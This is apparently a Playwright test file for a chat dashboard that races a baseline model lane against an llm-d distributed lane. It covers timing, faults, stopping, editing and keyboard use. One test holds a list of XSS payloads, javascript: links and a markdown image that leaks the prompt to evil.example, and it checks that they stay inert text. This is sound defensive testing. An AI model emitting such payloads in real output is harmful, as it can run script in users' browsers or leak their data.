/** Chat in a real browser: one lane is a model that answers what a test wrote down, the other the lab's. */
import type { Locator, Page } from '@playwright/test';
import { expect } from './fixtures';
import { testWithModel } from './scripted-fixtures';
import type { Script } from './scripted-model';
import { sourceLight } from './source-light';
import type { Stage } from './stage';

const test = testWithModel();

function words(text: string, everyMs = 10): Script {
  return { chunks: text.match(/\s*\S+/g) ?? [], everyMs };
}

const SHORT = words('The picker **sends** a follow-up to the pod that has its prefix.');

interface Screen {
  prompt: Locator;
  baseline: Locator;
  distributed: Locator;
  stop: Locator;
}

async function openChat(page: Page, stage: Stage, search = ''): Promise<Screen> {
  await page.goto(`${stage.url}/chat${search}`);
  await expect(sourceLight(page, 'cluster', 'live')).toBeVisible();
  await expect(page.getByRole('button', { name: /What llm-d adds/ }).first()).toBeAttached();
  return {
    prompt: page.getByRole('textbox', { name: 'Prompt' }),
    baseline: page.getByRole('region', { name: 'INT4 baseline', exact: true }),
    distributed: page.getByRole('region', { name: 'Distributed', exact: true }),
    stop: page.getByRole('button', { name: 'Stop', exact: true }),
  };
}

async function ask(screen: Screen, question: string): Promise<void> {
  await screen.prompt.fill(question);
  await screen.prompt.press('Enter');
}

async function askAndWait(screen: Screen, question: string): Promise<void> {
  await ask(screen, question);
  // The page is busy from the key press on: an answer may be over before anybody looks.
  await expect(screen.stop).toBeHidden({ timeout: 40_000 });
}

test('a race ends in a photo finish, and says what was equal and what was not', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => SHORT);
  const screen = await openChat(page, stage);
  await askAndWait(screen, 'What does the picker do with a follow-up?');
  const finish = page.getByRole('figure', { name: 'Photo finish' });
  await expect(finish.getByText(/^First token: (INT4|llm-d|too close)/)).toBeVisible();
  await expect(
    finish.getByText(/^Last token: .*(tokens each|Not the same work: \d+ against \d+)/),
  ).toBeVisible();
  await expect(page.getByText(/^Same prompt, same start \(.*ms apart\), temperature 0/)).toBeVisible();
  // Nobody knows what stands behind a configured URL: what the cluster's own baseline has is not claimed for it.
  await expect(
    page.getByText(
      /Not equal: .*configured URL against Gateway.* Not known: GPUs, engine pods, model, weights/,
    ),
  ).toBeVisible();
  await expect(screen.distributed.getByText('Gateway → picker', { exact: false })).toBeVisible();
  await expect(
    screen.baseline.getByText(/^configured URL: GPUs, weights and model not known · /),
  ).toBeVisible();
  await expect(screen.distributed.getByText(/2 GPUs · .*context/)).toBeVisible();
  // Markdown is drawn: the stars are gone, the word is bold.
  await expect(screen.baseline.locator('strong', { hasText: 'sends' })).toBeVisible();
});

test('a scripted question is not lost when its key comes before the questions do', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => SHORT);
  let letThrough = (): void => {};
  const held = new Promise<void>((resolve) => {
    letThrough = resolve;
  });
  await page.route('**/api/prompts', async (route) => {
    await held;
    await route.continue();
  });
  await page.goto(`${stage.url}/chat?lanes=baseline`);
  await expect(sourceLight(page, 'cluster', 'live')).toBeVisible();
  const asked = model.requests().length;
  const waits = page.getByText('is asked as soon as the questions are here', { exact: false });
  await page.keyboard.press('Shift+2');
  await expect(waits).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(waits).toBeHidden();
  await page.keyboard.press('Shift+3');
  await page.keyboard.press('Shift+1');
  await expect(waits).toContainText('⇧1');
  letThrough();
  await expect(page).toHaveURL(/prompt=/);
  await expect(page.getByText('ended by itself')).toBeVisible();
  await expect(waits).toBeHidden();
  expect(model.requests().length).toBe(asked + 1);
  await expect(page.getByRole('button', { name: /What llm-d adds/, pressed: true })).toBeAttached();
});

test('scripted questions that do not come are said to be missing', async ({ page, stage }) => {
  await page.route('**/api/prompts', (route) =>
    route.fulfill({ status: 500, json: { error: { code: 'internal', message: 'Disk on fire.' } } }),
  );
  await page.goto(`${stage.url}/chat`);
  await expect(page.getByText('The scripted questions did not come: Disk on fire.')).toBeVisible();
});

const FAULTS: readonly [fault: string, face: RegExp][] = [
  ['answer-empty', /stopped without an ending|could not be read/],
  ['answer-reset', /connection was reset in the middle/],
  ['answer-early-end', /stopped without an ending/],
  ['answer-malformed', /could not be read/],
  ['answer-error', /engine reported an error/],
  ['answer-400', /longer than the model’s context/],
  ['answer-401', /wants a key \(401\)/],
  ['answer-429', /Too many requests \(429\)/],
  ['answer-503', /not available \(503\)/],
  ['wrong-model', /does not know this model \(404\)/],
];

for (const [fault, face] of FAULTS) {
  test(`${fault}: the lane shows its face and loses, the other runs on`, async ({ page, stage, model }) => {
    model.answer(() => words(`${'still here '.repeat(40)}and done.`, 40));
    stage.lab('fault', fault, 'on', '--arm', 'distributed');
    try {
      const screen = await openChat(page, stage, '?distributed=route');
      await ask(screen, 'Explain prefill and decode at some length, please.');
      await expect(screen.distributed.getByRole('alert').getByText(face).first()).toBeVisible({
        timeout: 20_000,
      });
      await expect(page.getByText(/llm-d loses: .* INT4 (runs on|wins)\./)).toBeVisible();
      await expect(screen.baseline.getByText('and done.', { exact: false })).toBeVisible({ timeout: 20_000 });
      await expect(page.getByText(/llm-d loses: .* INT4 wins\./)).toBeVisible();
    } finally {
      stage.lab('fault', fault, 'off');
    }
  });
}

test('slow and stuck look different: a stalled answer says since when, and when it will be ended', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => ({ ...words('Three words came'), ending: 'silence' }));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await ask(screen, 'Stall.');
  await expect(screen.baseline.getByText(/answering · last token \d+ s ago/)).toBeVisible();
  await expect(screen.baseline.getByText(/stalled: no token for \d+ s, ended at 60 s/)).toBeVisible({
    timeout: 20_000,
  });
  await screen.stop.click();
  await expect(screen.baseline.getByText('Three words came')).toBeVisible();
});

test('Stop closes the connection to the engine within a second, and keeps text and figures', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => words('on and on '.repeat(2_000), 20));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await ask(screen, 'Talk.');
  await expect(screen.baseline.getByText(/on and on/)).toBeVisible();
  const before = model.abortedCount();
  await page.keyboard.press('Escape');
  await expect.poll(() => model.abortedCount(), { timeout: 1_000, intervals: [50] }).toBeGreaterThan(before);
  await expect(screen.baseline.getByText('Stopped here; the engine was told to stop.')).toBeVisible();
  await expect(screen.baseline.getByRole('button', { name: /^First token: \d/ })).toBeVisible();
});

test('what is read stays in its place while the answer grows below it, and no part changes its height', async ({
  page,
  stage,
  model,
}) => {
  const parts = Array.from(
    { length: 90 },
    (_, index) => `### Part ${index}\n\nSome *text* with \`code\`.\n\n`,
  );
  model.answer(() => words(parts.join(''), 10));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await ask(screen, 'At length.');
  const conversation = screen.baseline.getByRole('region', { name: /Conversation/ });
  await expect(conversation.getByText('Part 30', { exact: true })).toBeVisible();
  await conversation.evaluate((element) => element.scrollTo(0, 0));
  const first = conversation.getByText('Part 1', { exact: true });
  const before = await first.boundingBox();
  await expect(conversation.getByText('Part 89', { exact: true })).toBeAttached({ timeout: 20_000 });
  await expect(screen.stop).toBeHidden();
  expect(await first.boundingBox()).toEqual(before);
  const heights = await conversation.evaluate(async (element) => {
    const seen: number[] = [];
    for (let place = 0; place <= 10; place += 1) {
      element.scrollTo(0, (element.scrollHeight * place) / 10);
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      seen.push(element.scrollHeight);
    }
    return seen;
  });
  expect(new Set(heights).size).toBe(1);
});

test('a question is edited in its place, and asked again', async ({ page, stage, model }) => {
  model.answer((question) => words(`Answer to ${question}`));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await askAndWait(screen, 'one');
  await askAndWait(screen, 'two');
  const conversation = screen.baseline.getByRole('region', { name: /Conversation/ });
  await conversation.getByRole('button', { name: 'Edit' }).last().click();
  await expect(screen.prompt).toHaveValue('two');
  await askAndWait(screen, 'three');
  await expect(conversation.getByText('Answer to three')).toBeVisible();
  await expect(conversation.getByText('Answer to two')).toHaveCount(0);
  const asked = model.requests().length;
  await conversation.getByRole('button', { name: 'Ask again' }).last().click();
  await expect(screen.stop).toBeHidden();
  await expect.poll(() => model.requests().length).toBe(asked + 1);
  expect(model.requests().at(-1)?.messages).toEqual([
    { role: 'user', content: 'one' },
    { role: 'assistant', content: 'Answer to one' },
    { role: 'user', content: 'three' },
  ]);
  await expect(
    screen.baseline.getByRole('button', { name: /First token per turn: turn 1 .*, turn 2 / }),
  ).toBeVisible();
});

test('the conversation survives a reload and a visit to another screen, and a running answer runs on', async ({
  page,
  stage,
  model,
}) => {
  model.answer((question) => words(`Answer to ${question} ${'word '.repeat(60)}over.`, 25));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await ask(screen, 'one');
  await expect(screen.baseline.getByText(/Answer to one/)).toBeVisible();
  await page.getByRole('link', { name: 'Placement' }).click();
  await expect(page).toHaveURL(/placement/);
  await page.getByRole('link', { name: 'Chat' }).click();
  await expect(screen.baseline.getByText(/over\.$/)).toBeVisible();
  await page.reload();
  await expect(screen.baseline.getByText(/over\.$/)).toBeVisible();
  await ask(screen, 'two');
  await expect(screen.baseline.getByText(/Answer to two/)).toBeVisible();
  await page.reload();
  await expect(screen.baseline.getByText('The page was left while this was answered.')).toBeVisible();
  await page.keyboard.press('n');
  await expect(screen.baseline.getByText('No question yet', { exact: false })).toBeVisible();
});

test('everything works by keyboard alone', async ({ page, stage, model }) => {
  model.answer((question) => words(`Answer to ${question}`));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await page.keyboard.press('i');
  await expect(screen.prompt).toBeFocused();
  await page.keyboard.type('by keyboard');
  await page.keyboard.press('Enter');
  await expect(screen.baseline.getByText('Answer to by keyboard')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(screen.prompt).not.toBeFocused();
  await page.keyboard.press('e');
  await expect(screen.prompt).toHaveValue('by keyboard');
  await page.keyboard.press('Escape');
  await expect(screen.prompt).toHaveValue('');
  await page.keyboard.press('Escape');
  const asked = model.requests().length;
  await page.keyboard.press('a');
  await expect.poll(() => model.requests().length).toBe(asked + 1);
  await page.keyboard.press(',');
  const settings = page.getByRole('dialog', { name: 'How it is asked, in every lane' });
  await expect(settings).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(settings).toBeHidden();
  const load = page.getByRole('dialog', { name: 'Load while I talk' });
  await page.keyboard.press('u');
  await expect(load).toBeVisible();
  await page.keyboard.press('u');
  await expect(load).toBeHidden();
  await page.keyboard.press('m');
  await expect(page).toHaveURL(/lanes=distributed/);
  await page.keyboard.press('m');
  await expect(page).not.toHaveURL(/lanes=/);
  await page.keyboard.press('Shift+7');
  await expect(page).toHaveURL(/prompt=handbook-first/);
  await expect
    .poll(() => model.requests().at(-1)?.messages[0])
    .toMatchObject({ role: 'system', content: expect.stringContaining('HARBOUR HANDBOOK') });
  // Asked again it has the room of the first time, whatever is set for questions of one's own.
  await expect(screen.stop).toBeHidden({ timeout: 40_000 });
  await page.keyboard.press('a');
  const roomOfHandbook = () =>
    model
      .requests()
      .filter(({ messages }) => messages[0]?.content.includes('HARBOUR HANDBOOK'))
      .map(({ max_tokens }) => max_tokens);
  await expect.poll(roomOfHandbook).toEqual([160, 160]);
});

test('a fair race: fixed length, seed, cold and warmed up, at one press and in one line', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => SHORT);
  const screen = await openChat(page, stage);
  await page.getByRole('button', { name: 'How it is asked' }).click();
  await page.getByRole('button', { name: /Same work for both/ }).click();
  await page.getByRole('textbox', { name: /^Output tokens/ }).fill('24');
  await page.getByRole('textbox', { name: 'System prompt' }).fill('Be brief.');
  await page.keyboard.press('Escape');
  await expect(page).toHaveURL(/seed=1&tokens=24&length=fixed&cache=cold&warm-up=1/);
  await askAndWait(screen, 'Why?');
  expect(model.requests().at(-1)).toMatchObject({
    max_tokens: 24,
    seed: 1,
    ignore_eos: true,
    messages: [
      { role: 'system', content: expect.stringMatching(/^\[[0-9a-f]{32}\]\nBe brief\.$/) },
      { role: 'user', content: 'Why?' },
    ],
  });
  await expect(
    page.getByText(/seed 1, exactly 24 tokens, cold prompt \(unique first line\), warmed up/),
  ).toBeVisible();
  await expect(screen.distributed.getByText('cut at the token limit')).toBeVisible();
});

test('the same pods by two ways: with the picker, and round it', async ({ page, stage }) => {
  const screen = await openChat(page, stage);
  await page.getByRole('button', { name: 'Two paths' }).click();
  await askAndWait(screen, 'Answer in one short sentence: what is a prefix cache?');
  const route = page.getByRole('region', { name: 'llm-d by Route', exact: true });
  const gateway = page.getByRole('region', { name: 'llm-d by Gateway', exact: true });
  await expect(route.getByText('scheduler bypassed: chosen')).toBeVisible();
  await expect(gateway.getByText(/→ picker/)).toBeVisible();
  await expect(page.getByText('Only the way differs: Route against Gateway.')).toBeVisible();
  await expect(page.getByRole('figure', { name: 'Photo finish' })).toContainText(
    /First token: (Route|Gateway|too close)/,
  );
});

test('every answer tells its way, its times on both sides, its cost here, and the same as curl', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => SHORT);
  const screen = await openChat(page, stage, '?lanes=baseline');
  await askAndWait(screen, "It's a question");
  await screen.baseline.getByRole('button', { name: 'Details, curl' }).click();
  const sheet = page.getByRole('dialog');
  for (const heading of [
    'Times at the dashboard’s server',
    'Times in this browser, network and page included',
    'What this dashboard added, from the engine’s bytes to its own',
  ]) {
    await expect(sheet.getByRole('heading', { name: heading })).toBeVisible();
  }
  await expect(sheet.getByText('99 of 100 within')).toBeVisible();
  await expect(sheet.getByText(/unknown: no header names it|known by/)).toBeVisible();
  const text = (await sheet.textContent()) ?? '';
  expect(text).toContain('Authorization: Bearer $MODEL_API_KEY');
  expect(text).toContain("It'\\''s a question");
  for (const canary of stage.canaries) expect(text).not.toContain(canary);
});

const HOSTILE = `<img src=x onerror="window.pwned=1"> <script>window.pwned=1</script>
<iframe src="https://evil.example/"></iframe><svg onload="window.pwned=1"></svg>
<style>body{display:none}</style>

[press me](javascript:window.pwned=1) [data](data:text/html,x) [docs](https://evil.example/docs)

![steal](https://evil.example/?q=prompt) ![d](data:image/svg+xml,x)

right \u202Eto left\u001b[31m and [U

\`\`\`html
<script>window.pwned=1</script>
`;

test('A20–A22, A25: hostile output stays text, loads nothing and runs nothing, at every state of the stream', async ({
  page,
  stage,
  model,
}) => {
  model.answer(() => ({ chunks: HOSTILE.match(/.{1,3}/gs) ?? [], everyMs: 4 }));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await askAndWait(screen, 'Attack.');
  const conversation = screen.baseline.getByRole('region', { name: /Conversation/ });
  await expect(conversation).toContainText('<img src=x onerror="window.pwned=1">');
  await expect(conversation).toContainText('right [U+202E]to left␛[31m');
  await expect(conversation).toContainText('[image not loaded: steal · https://evil.example/?q=prompt]');
  const elements = await conversation.evaluate((node) => ({
    risky: node.querySelectorAll(
      'img, iframe, script, style, svg image, object, embed, form, [onerror], [onload]',
    ).length,
    links: [...node.querySelectorAll('a')].map((a) => [a.href, a.rel, a.target, a.nextSibling?.textContent]),
    pwned: 'pwned' in window,
    prototype: Object.keys(Object.prototype).length,
  }));
  // No request to elsewhere and no policy violation: the fixture looks after every test.
  expect(elements).toEqual({
    risky: 0,
    links: [['https://evil.example/docs', 'noopener noreferrer nofollow', '_blank', ' (evil.example)']],
    pwned: false,
    prototype: 0,
  });
});

test('F59: a 2 MB line and a flood of tokens leave the page usable', async ({ page, stage, model }) => {
  const line = 'no break here, and *never* one; '.repeat(65_536);
  const chunks = [...(line.match(/.{1,8192}/gs) ?? []), '\n\n', ...Array<string>(10_000).fill('tok ')];
  model.answer(() => ({ chunks, everyMs: 0 }));
  const screen = await openChat(page, stage, '?lanes=baseline');
  await ask(screen, 'Flood.');
  await screen.prompt.pressSequentially('typed while it floods');
  await expect(screen.prompt).toHaveValue('typed while it floods');
  await expect(
    screen.baseline.getByText(/longer than this page keeps|broke the size limit/).first(),
  ).toBeVisible({
    timeout: 40_000,
  });
});
